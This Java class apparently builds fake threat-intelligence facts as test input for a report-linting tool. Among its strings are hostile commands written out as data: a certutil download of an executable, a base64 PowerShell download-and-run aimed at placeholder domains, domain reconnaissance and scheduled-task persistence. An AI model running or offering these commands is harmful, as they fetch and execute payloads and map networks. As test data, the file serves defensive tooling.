package org.renkei.core.lint;

import static java.nio.charset.StandardCharsets.UTF_16LE;

import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Supplier;

/** What an attack report is written for: facts of the attack, none of which names the provider. */
final class TechnicalFacts {
    private static final List<String> FIXED = List.of(
            "C:\\Windows\\System32\\rundll32.exe",
            "C:\\Users\\Public\\Libraries\\svc.dll",
            "C:\\ProgramData\\Oracle\\java.exe",
            "%APPDATA%\\Roaming\\wininit.exe",
            "C:\\Users\\%USERNAME%\\AppData\\Local\\Temp\\7z.dll",
            "/usr/bin/python3",
            "/etc/cron.d/apache2",
            "/var/www/html/uploads/shell.php",
            "/tmp/.ICE-unix/.x",
            "/home/ubuntu/.ssh/authorized_keys",
            "/wp-content/plugins/akismet/inc.php",
            "/home/index.php",
            "POST /home/gate",
            "GET /users/list?id=1",
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKCU\\Software\\Classes\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}",
            "\\\\.\\pipe\\msagent_f3",
            "\\\\127.0.0.1\\ADMIN$",
            "schtasks /create /tn OneDriveSync /sc minute",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
            "Emotet",
            "PlugX",
            "Cobalt Strike Beacon",
            "LockBit 3.0",
            "T1059.001",
            "Event ID 4625",
            "Windows 10.0.19045.4046",
            "version 10.0.0.1",
            "10.0.0.0/8",
            "192.168.0.0/16",
            "127.0.0.1",
            "169.254.169.254",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            "TCP/445",
            "{ 4D 5A 90 00 03 00 00 00 }",
            "\"\\x64\\x8b\\x11\"",
            "1.3.6.1.4.1.311.21.20",
            "FIN7",
            "メールアカウント",
            "Global\\{A1B2C3D4}",
            "admin@",
            "windows-1252",
            "UTF-8?",
            "2026-04-01T09:30:00+09:00",
            "alert tcp $HOME_NET any -> $EXTERNAL_NET 443 (msg:\"ET MALWARE\"; content:\"|16 03 01|\"; sid:2024897; rev:2;)",
            "rule x { strings: $a = \"\\\\.\\pipe\\\" wide $b = { E8 ?? ?? 00 00 } condition: uint16(0) == 0x5A4D and all of them }",
            "Received: from unknown (HELO mail.evil.test) (45.9.20.1) by relay.invalid with SMTP id a1b2c3",
            "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe\",\"Hashes\":\"MD5=0011\"}",
            "185.12.7.9 - - [01/Apr/2026:09:30:00 +0900] \"GET /home/a.php?id=10.1 HTTP/1.1\" 200 512",
            "cmd.exe /c whoami & net user /domain & nltest /dclist:",
            "certutil -urlcache -f http://45.9.20.1/a.txt C:\\Windows\\Temp\\a.exe",
            "SMB1 (EternalBlue) MS17-010",
            "UA: curl/7.10.1.2",
            "0x0A000001",
            "std::vector",
            "カナダの組織",
            "みなとみらい",
            "つばめ型のアイコン");

    private static final List<String> SYLLABLES = List.of(
            "ka", "lo", "mi", "ter", "vex", "dun", "pra", "so", "zel", "qui", "bor", "net", "up", "date", "cdn");

    private final SplittableRandom random;

    TechnicalFacts(SplittableRandom random) {
        this.random = random;
    }

    String any() {
        List<Supplier<String>> makers = List.of(
                this::fixed,
                this::fixed,
                this::domain,
                this::url,
                this::address,
                () -> address().replace(".", "[.]"),
                () -> "hxxps://" + domain().replace(".", "[.]") + "/wp-includes/" + word() + ".js",
                () -> digits(32),
                () -> digits(40),
                () -> digits(64),
                () -> "CVE-" + random.nextInt(2014, 2027) + "-" + random.nextInt(1000, 60000),
                () -> word() + "@" + domain(),
                () -> "\\\\" + address() + "\\share\\" + word() + ".lnk",
                () -> "\\\\" + domain() + "@SSL\\DavWWWRoot\\" + word() + ".exe",
                () -> "powershell -enc "
                        + Base64.getEncoder()
                                .encodeToString(
                                        ("IEX (New-Object Net.WebClient).DownloadString('http://" + domain() + "')")
                                                .getBytes(UTF_16LE)),
                () -> "2001:db8:ff:" + Integer.toHexString(random.nextInt(1, 0xffff)) + "::" + random.nextInt(1, 99),
                () -> word() + "-login.example",
                () -> random.nextInt(1024, 65536) + "/tcp",
                () -> word() + "_invoice.pdf.exe",
                () -> digits(8) + "-" + digits(4) + "-4" + digits(3) + "-8" + digits(3) + "-" + digits(12));
        return makers.get(random.nextInt(makers.size())).get();
    }

    private String fixed() {
        return FIXED.get(random.nextInt(FIXED.size()));
    }

    private String domain() {
        List<String> ends = List.of(".test", ".invalid", ".evil.example", ".co.test", ".top.invalid");
        return word() + (random.nextBoolean() ? "-" + word() : "") + ends.get(random.nextInt(ends.size()));
    }

    private String url() {
        return "http://" + (random.nextBoolean() ? domain() : address()) + "/" + word() + "/"
                + List.of("gate.php", "home/panel", "wp-content/x.php", "Users/api", "?id=" + digits(16), "a%20b")
                        .get(random.nextInt(6));
    }

    private String address() {
        return List.of(5, 23, 45, 91, 104, 185, 193).get(random.nextInt(7)) + "." + random.nextInt(256) + "."
                + random.nextInt(256) + "." + random.nextInt(1, 255);
    }

    private String word() {
        StringBuilder word = new StringBuilder();
        for (int i = random.nextInt(2, 4); i > 0; i--) {
            word.append(SYLLABLES.get(random.nextInt(SYLLABLES.size())));
        }
        return word.toString();
    }

    private String digits(int count) {
        StringBuilder digits = new StringBuilder();
        for (int i = 0; i < count; i++) {
            digits.append(Character.forDigit(random.nextInt(16), 16));
        }
        return digits.toString();
    }
}
